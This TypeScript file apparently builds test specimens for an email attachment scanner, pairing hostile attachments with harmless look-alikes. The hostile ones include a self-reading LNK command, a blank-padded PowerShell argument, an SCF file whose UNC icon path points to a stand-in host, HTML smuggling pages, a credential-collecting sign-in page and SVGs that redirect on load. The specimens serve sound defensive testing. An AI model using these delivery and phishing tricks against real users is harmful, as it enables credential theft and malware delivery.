import { gzipSync } from 'node:zlib'
import {
  deviceLogPage,
  encodedOnlyPage,
  exe,
  htmlFile,
  iso,
  lnk,
  oneNote,
  pdf,
  png,
  portalPage,
  redirectingPage,
  script,
  signInPage,
  smugglingPage,
  svgLogo,
  svgWithScript,
  textFile,
} from '../files/index.ts'
import { docWithMacro } from '../office/index.ts'
import { built, type SpecimenFile } from '../specimen-file.ts'
import { zip } from '../zip/index.ts'
import type { CatalogueEntry } from './entry.ts'
import { attached, behindPassword, forwarded, latin1File, nested, renamed } from './mails.ts'

const utf16 = (file: SpecimenFile): SpecimenFile => ({
  ...file,
  bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(Buffer.from(file.bytes).toString('latin1'), 'utf16le')]),
})

/** A virtual hard disk of zeros with its footer (VHD 1.0). */
const vhd = (name: string): SpecimenFile => {
  const bytes = Buffer.alloc(1_536)
  bytes.write('conectix', 1_024)
  return { name, bytes, type: 'application/octet-stream' }
}

const vhdx = (name: string): SpecimenFile => {
  const bytes = Buffer.alloc(4_096)
  bytes.write('vhdxfile')
  return { name, bytes, type: 'application/octet-stream' }
}

const image = (file?: SpecimenFile): SpecimenFile => iso(file ? { name: '資料.img', file } : {})

export const activeFileEntries: readonly CatalogueEntry[] = [
  {
    id: 'A24',
    title: { ja: 'OneNote', en: 'OneNote' },
    bad: [
      attached('click.wsf below a picture', () =>
        oneNote({
          name: 'Scan_247.one',
          embedded: script('wsf', 'click.wsf'),
          pictures: [png()],
          text: 'This document is protected. Double click the View button',
        }),
      ),
      attached('hta without lists', () => oneNote({ files: [script('hta', 'a.hta')], loose: true })),
      attached('script called a picture', () => oneNote({ embedded: script('vbs', 'view.png') })),
      attached('shortcut in the notebook', () => oneNote({ name: 'doc_0322.one', files: [png(), lnk({ name: 'open.lnk' })] })),
      attached('document with macros', () => oneNote({ embedded: docWithMacro() })),
      behindPassword('behind a password', () => oneNote({ embedded: script('cmd', 'o p e n.cmd') })),
      attached('under another name', () => renamed(oneNote({ embedded: script('js', 'a.js') }), 'memo.dat')),
    ],
    lookAlike: [
      attached('notes with a PDF', () => oneNote({ name: '議事録.one', embedded: pdf(), text: '会議の記録です。' })),
      attached('notes with a picture', () => oneNote({ pictures: [png({ bytes: 4_000 })], text: 'ホワイトボード' })),
    ],
  },
  {
    id: 'A25',
    title: { ja: 'ショートカット（LNK）', en: 'Shortcuts (LNK)' },
    bad: [
      attached('reads itself', () =>
        lnk({
          name: 'INV 2022-04-25_1114, USA.doc.lnk',
          target: 'C:\\Windows\\System32\\cmd.exe',
          arguments: '/v:on /c findstr "rem.*" "form.lnk" > %TMP%\\x.vbs',
          appended: Buffer.from("' inert\r\n"),
        }),
      ),
      attached('blanks before the command', () =>
        lnk({
          target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          arguments: `${' '.repeat(240)}-c calc.exe`,
        }),
      ),
      attached('under another name', () => renamed(lnk(), '案内.pdf')),
      behindPassword('behind a password', () => lnk({ name: '請求書.pdf.lnk' })),
      attached('name seen in a closed zip', () =>
        zip('a.zip')
          .encrypted('never-told')
          .with(lnk({ name: '明細.lnk' })),
      ),
      nested('two zips deep', () => lnk({ environmentTarget: '%ComSpec%', ansi: true })),
    ],
    lookAlike: [attached('word about shortcuts', () => textFile('手順.txt', 'デスクトップのショートカット（.lnk）を開きます。'))],
  },
  {
    id: 'A26',
    title: { ja: 'ディスクイメージ', en: 'Disk images' },
    bad: [
      attached('iso', () => image()),
      attached('img with a program', () => image(exe('write.exe'))),
      attached('iso under the name of a document', () => renamed(image(), '資料.pdf')),
      attached('vhd', () => vhd('共有.vhd')),
      nested('vhdx', () => vhdx('共有.vhdx')),
      attached('name seen in a closed zip', () => zip('a.zip').encrypted('never-told').with(image())),
      behindPassword('iso behind a password', () => image(lnk())),
    ],
    lookAlike: [
      attached('medical picture', () => {
        const bytes = Buffer.alloc(400)
        bytes.write('DICM', 128)
        return { name: 'CT0001.dcm', bytes, type: 'application/dicom' }
      }),
    ],
  },
  {
    id: 'A27',
    title: { ja: 'スクリプト・HTA', en: 'Scripts and HTML applications' },
    bad: [
      ...(['js', 'jse', 'vbs', 'wsf', 'hta', 'ps1', 'bat', 'cmd', 'reg'] as const).map((language) =>
        attached(language, () => script(language, `請求書_${language}.${language}`)),
      ),
      attached('job called a text', () => script('wsf', '案内.txt')),
      attached('UTF-16', () => utf16(script('wsf', 'レポート.wsf'))),
      attached('script of comments behind a megabyte', () =>
        latin1File('a.js', `${'//// comment\r\n'.repeat(40_000)}var a = 1\r\n`),
      ),
      attached('jar', () => ({
        ...zip('更新.jar')
          .with({ name: 'META-INF/MANIFEST.MF', bytes: Buffer.from('Manifest-Version: 1.0\r\nMain-Class: A\r\n') })
          .build(),
      })),
      attached('management console', () =>
        latin1File('設定.msc', '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"></MMC_ConsoleFile>'),
      ),
      attached('settings', () =>
        latin1File(
          'a.settingcontent-ms',
          '<PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
        ),
      ),
      attached('shell command', () => latin1File('a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.9\\a.ico\r\n')),
      behindPassword('behind a password', () => script('jse')),
      forwarded('forwarded', () => script('ps1')),
    ],
    lookAlike: [
      attached('text about scripts', () => textFile('研修.txt', '"WScript.Shell" や .js ファイルは開かないでください。')),
      attached('log', () => textFile('装置.log', '2023-03-07 10:00:00 OK\r\n'.repeat(30))),
    ],
  },
  {
    id: 'A28',
    title: { ja: 'HTML スマグリング', en: 'HTML smuggling' },
    bad: [
      ...(
        [
          'atob',
          'chunks',
          'reversed',
          'hex',
          'character-codes',
          'percent',
          'xor-byte',
          'xor-key',
          'hidden-element',
          'data-address',
          'nested',
          'appended',
        ] as const
      ).map((style) =>
        attached(`${style}, zip`, () =>
          renamed(smugglingPage(zip('attachment.zip').with(docWithMacro()).build(), style), 'REF#5689_Sep_28.html'),
        ),
      ),
      attached('encrypted zip in a page', () => smugglingPage(zip('a.zip').encrypted('abc333').with(iso()).build())),
      attached('disk image in a page', () => smugglingPage(iso(), 'chunks')),
      attached('nothing but encoded text', encodedOnlyPage),
      attached('sign-in page', () => signInPage('https://collect.example.net/p.php')),
      attached('redirect', () => redirectingPage('https://login.example.net/a', 'script')),
      nested('page two zips deep', () => smugglingPage(exe(), 'xor-byte')),
      attached('called shtml', () => renamed(smugglingPage(script('js'), 'hex'), '見積.shtml')),
      attached('called xhtml, UTF-16', () => utf16(renamed(smugglingPage(zip('a.zip').with(exe()).build()), '見積.xhtml'))),
    ],
    lookAlike: [
      attached('portal of a secure mail service', () => portalPage()),
      attached('log of a device', () => deviceLogPage()),
      attached('plain page', () => htmlFile()),
    ],
  },
  {
    id: 'A29',
    title: { ja: 'スクリプト入りの SVG', en: 'SVG with script' },
    bad: [
      attached('script', () => svgWithScript()),
      attached('event', () =>
        latin1File(
          '図.svg',
          '<svg xmlns="http://www.w3.org/2000/svg" onload="window.location=\'https://login.example.net/a\'"><rect width="1" height="1"/></svg>',
          'image/svg+xml',
        ),
      ),
      attached('compressed', () => ({ name: '図.svgz', bytes: gzipSync(built(svgWithScript()).bytes), type: 'image/svg+xml' })),
      attached('page inside', () =>
        latin1File(
          '図.svg',
          `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="data:text/html;base64,${Buffer.from('<script>location="https://login.example.net"</script>').toString('base64')}"/></foreignObject></svg>`,
          'image/svg+xml',
        ),
      ),
      attached('called a picture', () => renamed(svgWithScript(), '図.png')),
    ],
    lookAlike: [attached('logo', () => svgLogo())],
  },
]
